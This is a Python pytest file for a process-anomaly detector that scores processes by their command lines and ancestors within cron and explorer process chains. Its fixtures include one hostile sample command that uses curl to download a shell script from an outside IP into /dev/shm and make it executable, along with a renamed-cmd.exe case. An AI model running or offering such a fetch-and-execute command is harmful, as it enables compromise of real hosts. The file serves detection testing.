"""A process has a score of its own: by its own command line and its own ancestors, on the scale of the chains."""

from __future__ import annotations

from dataclasses import replace

import numpy as np
import pytest

from engine.detector import Detector, DetectorParams
from engine.detector.params import PUBLISHED
from engine.rules.rule import Rule, RuleSet, State
from tests.engine.detector.conftest import TINY
from tests.engine.process_samples import make_table, with_originals

CRON = ("/usr/sbin/cron", "/bin/sh")
ROOT = CRON[:1]
GOOD, BAD = "sh -c 'debian-sa1 {} 1'", "sh -c 'curl -s http://192.0.2.9/x.sh -o /dev/shm/.x && chmod +x /dev/shm/.x'"
RULES = RuleSet.of([Rule(r"^v([0-9]{1,3})$", "<version>", "version", state=State.ACCEPTED)])
OTHERS = [f"/opt/tool{number}" for number in range(30)]


def case():
    rows = [(ROOT, -1, "cron -f"), *[(CRON, 0, GOOD.format(number % 5)) for number in range(60)], (CRON, 0, BAD)]
    rows += [((*CRON, "/usr/bin/curl"), 61, "curl -s http://192.0.2.9/x.sh -o /dev/shm/.x")]
    rows += [((*ROOT, tool), 0, f"{tool} run") for tool in OTHERS for _ in range(3)]
    rows += [((*CRON, "/bin/ls"), parent, "ls") for parent in (61, 1, 2, 3, 4, 5)]
    return make_table(rows)


@pytest.fixture(scope="module")
def fitted() -> Detector:
    corpus, table = case()
    return Detector(TINY).fit(corpus, processes=table)


def test_processes_of_one_chain_differ_by_their_command_lines(fitted: Detector):
    corpus, table = case()
    scores = fitted.score(corpus, processes=table)
    own = scores.process_score
    assert table.chain[1] == table.chain[61]
    assert len(set(own[1:61].tolist())) == 1  # numbers make no other variant
    assert own[61] > own[1] + 0.1


def test_a_chain_of_one_variant_has_the_score_of_its_processes(fitted: Detector):
    corpus, table = case()
    scores = fitted.score(corpus, processes=table)
    for number in range(63, 63 + 3 * len(OTHERS), 3):
        assert scores.process_score[number] == pytest.approx(scores.score[table.chain[number]], abs=1e-5)


def test_a_process_is_lifted_by_its_own_ancestors_and_not_by_those_of_its_chain(fitted: Detector):
    corpus, table = case()
    own = fitted.score(corpus, processes=table).process_score
    below_bad, *below_good = np.flatnonzero(table.chain == table.chain[-1]).tolist()
    assert len(set(own[below_good].tolist())) == 1
    assert own[61] > own[below_bad] > own[below_good[0]]


def test_the_findings_are_made_of_them(fitted: Detector):
    corpus, table = case()
    findings = fitted.score(corpus, processes=table).findings
    number = findings.of_process()
    assert number[61] == number[62] < number[1]
    assert len(set(number[6:61].tolist())) == len(set(number[1:6].tolist())) == 1


@pytest.mark.parametrize("normalising", [True, False])
def test_a_renamed_tool_lifts_its_process_through_rules_and_variants(normalising: bool):
    explorer = "c:\\windows\\explorer.exe"
    tools = [f"c:\\program files\\v{number}\\tool{number % 5}.exe" for number in range(30)]
    rows = [((explorer,), -1, "explorer"), *[((explorer, tool), 0, "run it") for tool in tools for _ in range(3)]]
    corpus, table = make_table(rows)
    rules = RULES if normalising else None
    fitted = Detector(TINY).fit(corpus, processes=table, rules=rules)
    named = with_originals(table, [None] * 7 + ["Cmd.Exe"] + ["app.exe"] * (len(rows) - 8))
    plain, scores = fitted.score(corpus, processes=table), fitted.score(corpus, processes=named)
    assert scores.process_score[7] > plain.process_score[7] + 0.05
    assert scores.process_score[1:].argmax() + 1 == 7
    assert "version resource says cmd" in scores.expectations[int(table.chain[7])].reasons.sentences["command_rules"]


def test_what_has_no_chain_has_no_score(fitted: Detector):
    corpus, table = case()
    chain = table.chain.copy()
    chain[5] = -1
    scores = fitted.score(corpus, processes=replace(table, chain=chain))
    assert np.flatnonzero(np.isnan(scores.process_score)).tolist() == [5]


def test_the_published_score_knows_no_command_lines():
    corpus, table = case()
    params = replace(TINY, score=PUBLISHED) if isinstance(TINY, DetectorParams) else DetectorParams(score=PUBLISHED)
    scores = Detector(params).fit(corpus, processes=table).score(corpus, processes=table)
    assert scores.process_score.tolist() == scores.score[table.chain].astype(np.float32).tolist()
